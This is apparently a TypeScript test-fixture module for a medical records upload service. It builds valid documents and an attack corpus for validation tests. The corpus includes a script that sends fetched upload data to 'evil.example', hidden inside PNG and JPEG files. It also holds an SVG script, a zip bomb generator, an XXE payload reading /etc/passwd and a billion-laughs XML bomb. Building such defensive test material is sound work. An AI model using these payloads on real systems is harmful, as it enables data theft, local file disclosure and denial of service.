/**
 * Document files for the tests, made byte by byte so that each one is exactly what its test says:
 * real documents of every accepted type, and the attack corpus (spoofed types, disguised files, zip
 * bombs, traversal names). Used by the documents service's tests and the system tests
 * (`import { documentFiles } from '@medfolio/testing'`).
 */
import { randomBytes } from 'node:crypto';
import { constants, crc32, deflateRawSync } from 'node:zlib';
import sharp from 'sharp';

// ----------------------------------------------------------------------------------------------
// PDF
// ----------------------------------------------------------------------------------------------

/** A small, valid one-page PDF (with a correct xref table). */
export function pdf(text = 'Blood test results'): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 144] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${`BT /F1 18 Tf 20 70 Td (${text}) Tj ET`.length} >>\nstream\nBT /F1 18 Tf 20 70 Td (${text}) Tj ET\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** A "PDF" of about `bytes` bytes: a valid frame around random binary data (for size tests). */
export function bigPdf(bytes: number): Buffer {
  const head = Buffer.from('%PDF-1.7\n1 0 obj\n<< /Length 0 >>\nstream\n', 'latin1');
  const tail = Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1');
  return Buffer.concat([head, randomBytes(Math.max(0, bytes - head.length - tail.length)), tail]);
}

// ----------------------------------------------------------------------------------------------
// Images
// ----------------------------------------------------------------------------------------------

export function jpeg(width = 640, height = 480, colour = '#2a6f97'): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: colour } })
    .jpeg()
    .toBuffer();
}

export function png(width = 320, height = 200, colour = '#c0392b'): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: colour } })
    .png()
    .toBuffer();
}

const HTML_PAGE =
  '<html><body><script>fetch("/api/upload/").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script></body></html>';

/** A real PNG with a web page appended after IEND: a viewer shows the picture, a browser sniffing it runs the page. */
export async function pngWithHtmlAppended(): Promise<Buffer> {
  return Buffer.concat([await png(), Buffer.from(HTML_PAGE)]);
}

/** A real PNG whose tEXt chunk holds a script (inserted before IEND, CRC correct). */
export async function pngWithScriptInText(): Promise<Buffer> {
  const image = await png();
  const iend = image.length - 12;
  return Buffer.concat([
    image.subarray(0, iend),
    pngChunk('tEXt', Buffer.from(`Comment\0${HTML_PAGE}`, 'latin1')),
    image.subarray(iend),
  ]);
}

/** A real JPEG with a COM (comment) segment holding a script, right after SOI. */
export async function jpegWithScriptComment(): Promise<Buffer> {
  const image = await jpeg();
  const comment = Buffer.from(HTML_PAGE, 'latin1');
  const segment = Buffer.concat([
    Buffer.from([0xff, 0xfe, (comment.length + 2) >> 8, (comment.length + 2) & 0xff]),
    comment,
  ]);
  return Buffer.concat([image.subarray(0, 2), segment, image.subarray(2)]);
}

export function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeBytes = Buffer.from(type, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([typeBytes, data])));
  return Buffer.concat([length, typeBytes, data, crc]);
}

// ----------------------------------------------------------------------------------------------
// Programs and web pages
// ----------------------------------------------------------------------------------------------

/** The start of a Windows program: an MZ header pointing at a PE header. */
export function exe(): Buffer {
  const file = Buffer.alloc(1024);
  file.write('MZ', 0, 'latin1');
  file.writeUInt32LE(0x80, 0x3c);
  file.write('PE\0\0', 0x80, 'latin1');
  file.writeUInt16LE(0x14c, 0x84);
  return file;
}

export function html(): Buffer {
  return Buffer.from(`<!DOCTYPE html>\n${HTML_PAGE}`);
}

export function svg(): Buffer {
  return Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
}

// ----------------------------------------------------------------------------------------------
// OLE2 compound files (.doc, and an Excel-like one)
// ----------------------------------------------------------------------------------------------

const ENDOFCHAIN = 0xfffffffe;
const FREESECT = 0xffffffff;
const FATSECT = 0xfffffffd;
const NOSTREAM = 0xffffffff;

/**
 * A minimal valid compound file (version 3, 512-byte sectors): a FAT sector, a directory sector with
 * the root and one stream, and the stream's data. `stream` names it: "WordDocument" makes a .doc,
 * "Workbook" an Excel file.
 */
export function compoundFile(stream = 'WordDocument', size = 8192): Buffer {
  const sector = 512;
  const dataSectors = Math.ceil(size / sector);
  const header = Buffer.alloc(sector);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x003e, 24);
  header.writeUInt16LE(0x0003, 26);
  header.writeUInt16LE(0xfffe, 28);
  header.writeUInt16LE(9, 30);
  header.writeUInt16LE(6, 32);
  header.writeUInt32LE(1, 44); // FAT sectors
  header.writeUInt32LE(1, 48); // first directory sector
  header.writeUInt32LE(4096, 56); // mini stream cutoff
  header.writeUInt32LE(ENDOFCHAIN, 60); // first mini FAT sector
  header.writeUInt32LE(ENDOFCHAIN, 68); // first DIFAT sector
  for (let i = 0; i < 109; i += 1) header.writeUInt32LE(i === 0 ? 0 : FREESECT, 76 + i * 4);

  const fat = Buffer.alloc(sector, 0xff);
  fat.writeUInt32LE(FATSECT, 0);
  fat.writeUInt32LE(ENDOFCHAIN, 4);
  for (let i = 0; i < dataSectors; i += 1) fat.writeUInt32LE(i === dataSectors - 1 ? ENDOFCHAIN : 3 + i, (2 + i) * 4);

  const directory = Buffer.alloc(sector);
  directoryEntry('Root Entry', 5, 1, ENDOFCHAIN, 0).copy(directory, 0);
  directoryEntry(stream, 2, NOSTREAM, 2, size).copy(directory, 128);
  const data = Buffer.alloc(dataSectors * sector);
  randomBytes(size).copy(data);
  return Buffer.concat([header, fat, directory, data]);
}

function directoryEntry(name: string, type: number, child: number, start: number, size: number): Buffer {
  const entry = Buffer.alloc(128);
  const encoded = Buffer.from(`${name}\0`, 'utf16le');
  encoded.copy(entry, 0);
  entry.writeUInt16LE(encoded.length, 64);
  entry[66] = type;
  entry[67] = 1; // black
  entry.writeUInt32LE(NOSTREAM, 68);
  entry.writeUInt32LE(NOSTREAM, 72);
  entry.writeUInt32LE(child, 76);
  entry.writeUInt32LE(start, 116);
  entry.writeUInt32LE(size, 120);
  return entry;
}

// ----------------------------------------------------------------------------------------------
// Zip files, written field by field so that the malicious ones can be exactly as malicious as needed
// ----------------------------------------------------------------------------------------------

export interface ZipEntry {
  name: string;
  /** The contents; compressed with deflate unless `stored`. */
  data?: Buffer;
  stored?: boolean;
  /** Already-compressed data and the sizes to declare (for bombs). */
  raw?: { compressed: Buffer; uncompressedSize: number; crc: number };
  /** Unix mode bits for the external attributes (e.g. 0o120777 for a symlink). */
  unixMode?: number;
  encrypted?: boolean;
  /** Point this central directory entry at another entry's local header (overlapping bombs). */
  sameOffsetAs?: number;
}

/** A zip with the given entries, their central directory and end record. */
export function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  const offsets: number[] = [];
  let offset = 0;
  entries.forEach((entry, index) => {
    const name = Buffer.from(entry.name, 'utf8');
    const data = entry.data ?? Buffer.alloc(0);
    const compressed = entry.raw?.compressed ?? (entry.stored ? data : deflateRawSync(data));
    const uncompressedSize = entry.raw?.uncompressedSize ?? data.length;
    const crc = entry.raw?.crc ?? crc32(data);
    const method = entry.stored ? 0 : 8;
    const flags = 0x0800 | (entry.encrypted ? 0x0001 : 0);
    if (entry.sameOffsetAs !== undefined) {
      offsets.push(offsets[entry.sameOffsetAs] ?? 0);
    } else {
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      local.writeUInt16LE(20, 4);
      local.writeUInt16LE(flags, 6);
      local.writeUInt16LE(method, 8);
      local.writeUInt32LE(crc, 14);
      local.writeUInt32LE(compressed.length, 18);
      local.writeUInt32LE(uncompressedSize, 22);
      local.writeUInt16LE(name.length, 26);
      offsets.push(offset);
      locals.push(local, name, compressed);
      offset += local.length + name.length + compressed.length;
    }
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(entry.unixMode !== undefined ? 0x0314 : 20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(compressed.length, 20);
    central.writeUInt32LE(uncompressedSize, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(entry.unixMode !== undefined ? (entry.unixMode << 16) >>> 0 : 0, 38);
    central.writeUInt32LE(offsets[index] ?? 0, 42);
    centrals.push(central, name);
  });
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** A minimal Word document: the two parts that make a zip a .docx, plus `extra` entries. */
export function docx(extra: ZipEntry[] = []): Buffer {
  return zip([
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ),
    },
    {
      name: '_rels/.rels',
      data: Buffer.from(
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
      ),
    },
    {
      name: 'word/document.xml',
      data: Buffer.from(
        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Discharge letter</w:t></w:r></w:p></w:body></w:document>',
      ),
    },
    ...extra,
  ]);
}

/**
 * A real zip bomb entry: a deflate stream that inflates to `gibibytes` GiB of zeros, made by
 * repeating one fully flushed block of 1 MiB of zeros (about 1 KiB compressed), with the right CRC.
 */
export function zerosBombEntry(name: string, gibibytes = 1): ZipEntry {
  const mebibyte = Buffer.alloc(1024 * 1024);
  const block = deflateRawSync(mebibyte, { finishFlush: constants.Z_FULL_FLUSH });
  const count = gibibytes * 1024;
  const compressed = Buffer.concat([...Array.from({ length: count }, () => block), Buffer.from([0x03, 0x00])]);
  let crc = 0;
  for (let i = 0; i < count; i += 1) crc = crc32(mebibyte, crc);
  return { name, raw: { compressed, uncompressedSize: count * mebibyte.length, crc } };
}

// ----------------------------------------------------------------------------------------------
// Structured health records: C-CDA XML and FHIR JSON, and hostile XML
// ----------------------------------------------------------------------------------------------

/**
 * A small C-CDA document (a ClinicalDocument in the HL7 v3 namespace, with the stylesheet line a
 * portal export carries). `padding` adds that many observation entries, to make records larger
 * than the 64 KiB the upload reads before deciding.
 */
export function ccda(padding = 0): Buffer {
  const entry = (i: number) =>
    `<entry><observation classCode="OBS" moodCode="EVN"><code code="${i}" displayName="Test observation ${i}"/></observation></entry>\n`;
  return Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="CDA.xsl"?>
<!-- exported by a test portal -->
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>
  <code code="34133-9" codeSystem="2.16.840.1.113883.6.1" displayName="Summarization of Episode Note"/>
  <title>Test Patient summary</title>
  <recordTarget><patientRole><patient><name><given>Test</given><family>Patient</family></name></patient></patientRole></recordTarget>
  <component><structuredBody><component><section>
${Array.from({ length: padding }, (_, i) => entry(i)).join('')}  </section></component></structuredBody></component>
</ClinicalDocument>
`);
}

/** A FHIR R4 document Bundle (the International Patient Summary's shape); `padding` adds Observations. */
export function fhirBundle(padding = 0): Buffer {
  const observation = (i: number) => ({
    resource: { resourceType: 'Observation', id: `obs-${i}`, status: 'final', code: { text: `Test observation ${i}` } },
  });
  return Buffer.from(
    JSON.stringify(
      {
        resourceType: 'Bundle',
        type: 'document',
        entry: [
          { resource: { resourceType: 'Composition', id: 'ips', status: 'final', title: 'Patient Summary' } },
          { resource: { resourceType: 'Patient', id: 'p1', name: [{ given: ['Test'], family: 'Patient' }] } },
          ...Array.from({ length: padding }, (_, i) => observation(i)),
        ],
      },
      null,
      1,
    ),
  );
}

/** Classic XXE: a ClinicalDocument whose DTD declares an external entity reading a local file. */
export function xxe(): Buffer {
  return Buffer.from(`<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&xxe;</title></ClinicalDocument>
`);
}

/** "Billion laughs": nested entities that would expand to gigabytes. */
export function billionLaughs(): Buffer {
  const levels = Array.from(
    { length: 9 },
    (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
  ).join('\n');
  return Buffer.from(`<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
${levels}
]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&lol9;</title></ClinicalDocument>
`);
}
